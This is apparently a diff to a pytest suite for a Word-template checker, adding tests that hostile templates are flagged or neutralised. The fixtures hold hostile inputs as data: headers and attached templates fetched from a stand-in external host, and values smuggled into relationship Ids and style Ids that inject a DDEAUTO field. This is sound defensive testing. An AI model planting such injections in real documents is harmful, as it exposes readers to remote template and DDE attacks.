@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 from pathlib import Path
+from xml.sax.saxutils import quoteattr
 
 import attrs
 import pytest
@@ -11,6 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from lxml import etree
 
+from iopdocs.authoring.layer_check import check_layer
 from iopdocs.authoring.word_template_report import report_on
 from iopdocs.writers.docx.field_codes import ALLOWED_FIELDS, is_allowed
 from iopdocs.writers.docx.reference_document import lent_template
@@ -254,6 +256,18 @@ HOSTILE: dict[str, bytes] = {
         part_rels=(("b", "font", f"http://{EVIL}/b.odttf", True),),
     ),
     "a header from elsewhere": template(main_rels=(("h", "header", f"file:///{EVIL}", True),)),
+    "a first header from elsewhere": template(
+        part="word/_rels/document.xml.rels",
+        part_xml=('Target="/word/header1.xml"', f'Target="http://{EVIL}/h.xml" TargetMode="External"'),
+    ),
+    "an id that writes a relationship of its own": template(
+        part="word/_rels/document.xml.rels",
+        part_xml=(
+            'Id="styles"',
+            'Id="s&quot; Type=&quot;' + TYPES + f'attachedTemplate&quot; Target=&quot;http://{EVIL}/t.dotm&quot; '
+            'TargetMode=&quot;External&quot;/&gt;&lt;Relationship Id=&quot;styles"',
+        ),
+    ),
     "buttons": template(
         package_rels=(("u", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/evil.example.xml", False),),
         extra={"customUI/evil.example.xml": ("application/xml", b"<customUI/>")},
@@ -306,6 +320,17 @@ def test_what_is_active_in_a_template_is_reported_and_makes_it_unusable(kind: st
     outcome = run("styles", "check", str(file))
     assert outcome.code == 1
     assert "Mallen innehåller" in outcome.out + outcome.err
+    assert "DDE" not in outcome.out.partition("Sidhuvud och sidfot")[2]
+
+
+@pytest.mark.parametrize("kind", ["OLE linked", "DDEAUTO", "macros of a header", "a first header from elsewhere"])
+def test_check_of_a_layer_names_what_its_template_does_not_lend(kind: str, tmp_path: Path) -> None:
+    (tmp_path / "lager.yaml").write_text("namn: prov\n", encoding="utf-8")
+    (tmp_path / "mall.docx").write_bytes(HOSTILE[kind])
+    outcome = run("clauses", "check", str(tmp_path), "--no-config")
+    assert outcome.code == 1
+    assert "Mallen innehåller" in outcome.out
+    assert "A111" in {finding.code for finding in check_layer([tmp_path], rendered=False).found}
 
 
 @pytest.mark.parametrize("file", [OURS, EXEMPELSTAD, *TEMPLATES], ids=lambda file: file.parent.name + file.stem)
@@ -362,3 +387,12 @@ def test_an_instruction_is_read_as_word_puts_it_together(pieces: list[str]) -> N
 )
 def test_no_other_scheme_is_a_link(scheme: str, rest: str) -> None:
     assert not is_allowed(f'HYPERLINK "{scheme}:{rest}"'.replace("\\\\:", "\\\\\\\\"))
+
+
+def test_style_id_is_never_structure() -> None:
+    identifier = 'Rubrik"/></w:pPr><w:fldSimple w:instr="DDEAUTO x"/><w:pPr><w:pStyle w:val="1'
+    data = template(part="word/styles.xml", part_xml=('w:styleId="Heading1"', f"w:styleId={quoteattr(identifier)}"))
+    document = etree.fromstring(parts(made_with(data))["word/document.xml"])
+    assert next(document.iter("{*}fldSimple"), None) is None
+    used = {str(style.get(docx_checks.w("val"))) for style in document.iter(docx_checks.w("pStyle"))}
+    assert identifier in used
